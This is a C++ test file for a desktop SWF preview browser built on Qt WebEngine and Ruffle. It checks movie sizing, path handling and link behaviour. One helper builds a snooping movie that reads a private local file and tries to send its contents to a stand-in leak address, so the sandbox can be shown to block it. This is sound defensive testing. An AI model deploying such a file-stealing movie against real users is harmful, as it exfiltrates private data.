#include <gtest/gtest.h>

#include <QDir>
#include <QMouseEvent>
#include <QSignalSpy>
#include <cstdlib>

#include "movie/ActionWriter.h"
#include "publish/PreviewPage.h"
#include "tests/support/Jpeg.h"
#include "tests/support/TempDir.h"
#include "tests/support/TinySwf.h"
#include "tests/window/PreviewSupport.h"
#include "window/preview/PlayerScripts.h"
#include "window/preview/PreviewBrowser.h"
#include "window/preview/PreviewScheme.h"

namespace {

// Every point of a 5 x 5 grid over rect shows colour: no pop-up of the player
// covers the movie.
void ExpectUniform(PreviewBrowser& view, QRect rect, QColor colour, const std::string& where) {
  const QImage image = Grab(view);
  for (int i = 0; i < 5; ++i) {
    for (int j = 0; j < 5; ++j) {
      const QPoint p(rect.left() + 2 + (rect.width() - 5) * i / 4, rect.top() + 2 + (rect.height() - 5) * j / 4);
      EXPECT_TRUE(Near(image.pixelColor(p), colour))
          << where << ": " << image.pixelColor(p).name().toStdString() << " at " << p.x() << "," << p.y();
    }
  }
}

TEST(PreviewBrowser, PlaysTheMovieAtTheMovieSizeWhateverItsPath) {
  SKIP_WITHOUT_PLAYER();
  const struct {
    const char* folder;
    int width, height;
    QColor colour;
  } rows[] = {
      {"plain", 300, 200, QColor(220, 30, 30)},
      {"with spaces and-dots.v1", 240, 320, QColor(30, 200, 40)},
      {"quote\" <angle> & amp", 200, 150, QColor(40, 60, 220)},
      {"hash# question? 100%25 %", 320, 100, QColor(230, 200, 20)},
      {"Фото 展示 jörg", 160, 160, QColor(200, 40, 200)},
  };
  TempDir dir;
  PreviewBrowser view;
  ASSERT_TRUE(view.PlayerFound()) << "no player in " << DefaultPlayerFolder().toStdString();
  view.resize(800, 600);
  view.show();
  for (const auto& r : rows) {
    const auto c = r.colour;
    const std::string movie =
        dir.Write(std::string(r.folder) + "/movie.swf",
                  TinySwf(r.width, r.height, static_cast<std::uint8_t>(c.red()), static_cast<std::uint8_t>(c.green()),
                          static_cast<std::uint8_t>(c.blue())));
    const std::string page = (dir.Path() / r.folder / "test.html").string();
    SavePreviewPage(page, PreviewPageText(movie, r.width, r.height));
    QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
    view.ShowPage(QString::fromStdString(page), QString::fromStdString(movie));
    ASSERT_TRUE(loaded.wait(kPlayerTimeoutMs)) << r.folder;
    EXPECT_TRUE(loaded.first().first().toBool()) << r.folder;

    QRect player;
    ASSERT_TRUE(QTest::qWaitFor([&] { return !(player = PlayerRect(view)).isEmpty(); }, kPlayerTimeoutMs)) << r.folder;
    EXPECT_EQ(player.size(), QSize(r.width, r.height)) << r.folder;
    ASSERT_TRUE(WaitForColour(view, player.center(), c)) << r.folder;
    ExpectUniform(view, player, c, r.folder);
    // The pointer over the movie raises nothing either.
    QMouseEvent hover(QEvent::MouseMove, QPointF(player.center()), view.mapToGlobal(QPointF(player.center())),
                      Qt::NoButton, Qt::NoButton, Qt::NoModifier);
    QCoreApplication::sendEvent(InputWidget(view), &hover);
    QTest::qWait(300);
    ExpectUniform(view, player, c, std::string(r.folder) + " after hover");
  }
}

// The movie lies wholly in the view, at its own size when it fits and never
// larger; a larger one is shrunk just enough for it and the line under it,
// keeping its proportions, and follows the view when it is resized.
TEST(PreviewBrowser, ShrinksAMovieLargerThanTheViewToFitAndFollowsItsSize) {
  const struct {
    const char* name;
    QSize movie, view;
    bool shrunk;
  } rows[] = {
      {"smaller", {300, 200}, {800, 600}, false},
      {"just fits", {784, 300}, {800, 600}, false},
      {"too wide", {1600, 300}, {800, 600}, true},
      {"too tall", {400, 1200}, {800, 600}, true},
      {"both", {2560, 1600}, {1000, 700}, true},
      {"the same movie in a view grown for it", {2560, 1600}, {2700, 1800}, false},
      {"the same movie in a view shrunk again", {2560, 1600}, {900, 500}, true},
  };
  TempDir dir;
  PreviewBrowser view;
  view.show();
  QSize loaded;
  for (const auto& r : rows) {
    view.resize(r.view);
    if (loaded != r.movie) {
      const std::string movie = dir.Write("movie.swf", TinySwf(r.movie.width(), r.movie.height(), 200, 40, 40));
      const std::string page = (dir.Path() / "test.html").string();
      SavePreviewPage(page, PreviewPageText(movie, r.movie.width(), r.movie.height()));
      view.ShowPage(QString::fromStdString(page), QString::fromStdString(movie));
      loaded = r.movie;
    }
    // The page has this row's movie in this row's view, and has fitted it
    // there; the view's idea of the movie's place is the page's.
    const QString fitted = QStringLiteral(R"JS(
        (() => {
          const player = document.querySelector("ruffle-embed, ruffle-object");
          return !!player && !!player.ruffle && player.ruffle().readyState >= 2 &&
                 player.ruffle().metadata.width === %1 && window.innerWidth === %2 && window.innerHeight === %3;
        })())JS")
                               .arg(r.movie.width())
                               .arg(r.view.width())
                               .arg(r.view.height());
    QRect player;
    ASSERT_TRUE(QTest::qWaitFor(
        [&] {
          if (!RunJs(view, fitted).toBool()) return false;
          player = PlayerRect(view);
          const QRectF reported = view.MovieRect();
          return !player.isEmpty() && qAbs(reported.x() - player.x()) <= 1 &&
                 qAbs(reported.width() - player.width()) <= 1 &&
                 qAbs(view.MovieScale() * r.movie.width() - player.width()) <= 1 && (view.MovieScale() < 1) == r.shrunk;
        },
        kPlayerTimeoutMs))
        << r.name << ": scale " << view.MovieScale();
    EXPECT_TRUE(QRect(QPoint(0, 0), r.view).contains(player)) << r.name << ": " << player.x() << "," << player.y();
    EXPECT_NEAR(double(player.width()) / player.height(), double(r.movie.width()) / r.movie.height(), 0.02) << r.name;
    // Nothing to scroll, and no room to show it larger.
    const QVariantList page =
        RunJs(view, "[document.scrollingElement.scrollWidth, document.scrollingElement.scrollHeight]").toList();
    EXPECT_LE(page[0].toInt(), r.view.width()) << r.name;
    EXPECT_LE(page[1].toInt(), r.view.height()) << r.name;
    if (r.shrunk) {
      const bool fillsWidth = player.width() >= r.view.width() - 16 - 1;
      const bool fillsHeight = RunJs(view,
                                     "(() => { const r = document.createRange(); r.selectNodeContents(document.body);"
                                     " return r.getBoundingClientRect().bottom; })()")
                                   .toDouble() >= r.view.height() - 8 - 1;
      EXPECT_TRUE(fillsWidth || fillsHeight) << r.name << ": " << player.width() << " x " << player.height();
    }
  }
}

TEST(PreviewBrowser, WithoutThePlayerThePageSaysWhereItWasLookedFor) {
  TempDir dir;
  const std::string movie = dir.Write("movie.swf", TinySwf(100, 100, 0, 0, 0));
  const std::string page = (dir.Path() / "test.html").string();
  SavePreviewPage(page, PreviewPageText(movie, 100, 100));
  const QString folder = QDir(QString::fromStdString(dir.Path().string())).filePath("no-player");

  PreviewBrowser view(nullptr, folder);
  EXPECT_FALSE(view.PlayerFound());
  QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
  view.ShowPage(QString::fromStdString(page), QString::fromStdString(movie));
  ASSERT_TRUE(loaded.wait(kPlayerTimeoutMs));
  QString first;
  ASSERT_TRUE(QTest::qWaitFor(
      [&] {
        return (first = RunJs(view, "document.body.firstElementChild.textContent").toString()).startsWith("The SWF");
      },
      10000));
  EXPECT_EQ(first, "The SWF player is missing: it was looked for in \"" + folder + "\".");
  // The page itself is shown under the notice.
  EXPECT_TRUE(RunJs(view, "document.body.textContent").toString().contains("File location->"));
}

TEST(PreviewBrowser, ABuildWithoutThePlayerSaysThereIsNone) {
  const QList<QWebEngineScript> scripts = PlayerScripts(QString());
  ASSERT_EQ(scripts.size(), 1);
  EXPECT_TRUE(scripts[0].sourceCode().contains(
      "There is no preview player: this build of the program was made without the SWF player."));
}

// A movie that, every other frame, loads variables from a private file (by
// its file address and by its path) into _root, tries to open an address
// carrying what it read, and passes what it read to an fscommand "tick".
std::string SnoopingMovie(const std::string& secretPath) {
  enum Pool : std::uint8_t { kFileAddress, kPath, kRoot, kSecret, kLeak, kBlank, kTick };
  const std::string fileAddress = QUrl::fromLocalFile(QString::fromStdString(secretPath)).toString().toStdString();
  const std::string_view pool[] = {fileAddress, secretPath,      "_root", "secret", "https://example.com/leak?",
                                   "_blank",    "FSCommand:tick"};
  avm1::ActionWriter w;
  w.ConstantPool(pool);
  constexpr std::uint8_t kLoadVariablesIntoClip = 0xC0;
  for (const Pool source : {kFileAddress, kPath}) {
    w.Push({source, kRoot});
    w.GetURL2(kLoadVariablesIntoClip);
  }
  w.Push({kLeak, kSecret});
  w.Action(avm1::kGetVariable);
  w.Action(avm1::kStringAdd);
  w.Push({kBlank});
  w.GetURL2(0);
  w.Push({kTick, kSecret});
  w.Action(avm1::kGetVariable);
  w.GetURL2(0);
  myByteArray actions = w.Bytes();
  actions.push_back(avm1::kEnd);

  // The one-colour movie, at 30 frames a second, with a second frame and
  // the actions in the first.
  std::string movie = TinySwf(200, 150, 30, 120, 200);
  const std::size_t rectEnd = 8 + 11;  // a 5-bit size and four 20-bit fields
  movie[rectEnd + 1] = 30;
  movie[rectEnd + 2] = 2;
  std::string doAction("\x3F\x03", 2);
  for (int i = 0; i < 4; ++i) doAction += static_cast<char>((actions.size() >> (8 * i)) & 0xFF);
  doAction.append(actions.begin(), actions.end());
  const std::size_t showFrame = movie.size() - 4;
  movie = movie.substr(0, showFrame) + doAction + std::string("\x40\x00\x40\x00\x00\x00", 6);
  for (int i = 0; i < 4; ++i) movie[4 + i] = static_cast<char>((movie.size() >> (8 * i)) & 0xFF);
  return movie;
}

// Sends a left click at point of the view, as the user's hand does.
void Click(QWebEngineView& view, QPoint point, Qt::MouseButton button = Qt::LeftButton) {
  QWidget* target = InputWidget(view);
  for (const QEvent::Type type : {QEvent::MouseMove, QEvent::MouseButtonPress, QEvent::MouseButtonRelease}) {
    QMouseEvent event(type, QPointF(point), target->mapToGlobal(QPointF(point)),
                      type == QEvent::MouseMove ? Qt::NoButton : button,
                      type == QEvent::MouseButtonPress ? button : Qt::NoButton, Qt::NoModifier);
    QCoreApplication::sendEvent(target, &event);
  }
}

// The page reads the movie and the player, nothing else; an address the
// movie opens goes out only in answer to a click in the view.
TEST(PreviewBrowser, AMovieReadsNoOtherFileAndOpensAnAddressOnlyAfterAClick) {
  SKIP_WITHOUT_PLAYER();
  TempDir dir;
  const std::string secret = dir.Write("private/secret.txt", "secret=LEAKED");
  const std::string movie = dir.Write("movie/movie.swf", SnoopingMovie(secret));
  const std::string page = (dir.Path() / "movie" / "test.html").string();
  SavePreviewPage(page, PreviewPageText(movie, 200, 150));
  PreviewBrowser view;
  QList<QUrl> opened;
  view.SetLinkHandler([&opened](const QUrl& url) { opened.append(url); });
  view.resize(400, 300);
  view.show();
  view.ShowPage(QString::fromStdString(page), QString::fromStdString(movie));
  QRect player;
  ASSERT_TRUE(QTest::qWaitFor([&] { return !(player = PlayerRect(view)).isEmpty(); }, kPlayerTimeoutMs));
  RunJs(view,
        "window.ticks = []; document.querySelector('ruffle-embed, ruffle-object').ruffle()"
        ".addFSCommandHandler((command, value) => { window.ticks.push(value); return true; }); 1");
  const auto ticks = [&] { return RunJs(view, "window.ticks").toStringList(); };
  // Some 40 frames after its first attempts, with time enough to read a file.
  ASSERT_TRUE(QTest::qWaitFor([&] { return ticks().size() >= 20; }, kPlayerTimeoutMs));
  EXPECT_FALSE(ticks().join(' ').contains("LEAKED")) << ticks().join(' ').toStdString();
  EXPECT_TRUE(opened.isEmpty()) << opened.first().toString().toStdString();

  Click(view, player.center());
  ASSERT_TRUE(QTest::qWaitFor([&] { return !opened.isEmpty(); }, 10000));
  EXPECT_TRUE(opened.first().toString().startsWith("https://example.com/leak?"))
      << opened.first().toString().toStdString();
  EXPECT_FALSE(opened.first().toString().contains("LEAKED"));
  // One click, one address.
  const int seen = static_cast<int>(ticks().size());
  ASSERT_TRUE(QTest::qWaitFor([&] { return ticks().size() >= seen + 20; }, kPlayerTimeoutMs));
  EXPECT_EQ(opened.size(), 1);
  EXPECT_EQ(view.url(), PreviewAddress(QString::fromStdString(page)));
}

// The movie's own context-menu item is chosen with a click: its address goes out.
TEST(PreviewBrowser, TheMoviesMenuItemOpensItsAddress) {
  SKIP_WITHOUT_PLAYER();
  TempDir dir;
  const std::string picture = dir.Write("view.jpg", MakeJpeg(320, 240));
  const std::string movie = (dir.Path() / "movie.swf").string();
  ASSERT_EQ(
      std::system(("'" ORBILUX_BUILD_PROGRAM "' -q -o '" + movie + "' '" + picture + "' '" + picture + "'").c_str()),
      0);
  const std::string page = (dir.Path() / "test.html").string();
  SavePreviewPage(page, PreviewPageText(movie, 320, 240));
  PreviewBrowser view;
  QList<QUrl> opened;
  view.SetLinkHandler([&opened](const QUrl& url) { opened.append(url); });
  view.resize(400, 300);
  view.show();
  view.ShowPage(QString::fromStdString(page), QString::fromStdString(movie));
  QRect player;
  ASSERT_TRUE(QTest::qWaitFor([&] { return !(player = PlayerRect(view)).isEmpty(); }, kPlayerTimeoutMs));
  const QString item = QStringLiteral(R"JS(
      (() => {
        const player = document.querySelector("ruffle-embed, ruffle-object");
        const item = [...player.shadowRoot.querySelectorAll("#context-menu .menu-item")]
            .find((e) => (e.getAttribute("data-text") ?? e.textContent).startsWith("Generated by"));
        if (!item || !item.offsetParent) return [];
        const r = item.getBoundingClientRect();
        return [r.left + r.width / 2, r.top + r.height / 2];
      })())JS");
  QVariantList at;
  ASSERT_TRUE(QTest::qWaitFor(
      [&] {
        Click(view, player.center(), Qt::RightButton);
        return (at = RunJs(view, item).toList()).size() == 2;
      },
      kPlayerTimeoutMs));
  Click(view, QPoint(at[0].toInt(), at[1].toInt()));
  ASSERT_TRUE(QTest::qWaitFor([&] { return !opened.isEmpty(); }, 10000));
  EXPECT_EQ(opened.first().scheme(), "https") << opened.first().toString().toStdString();
}

}  // namespace
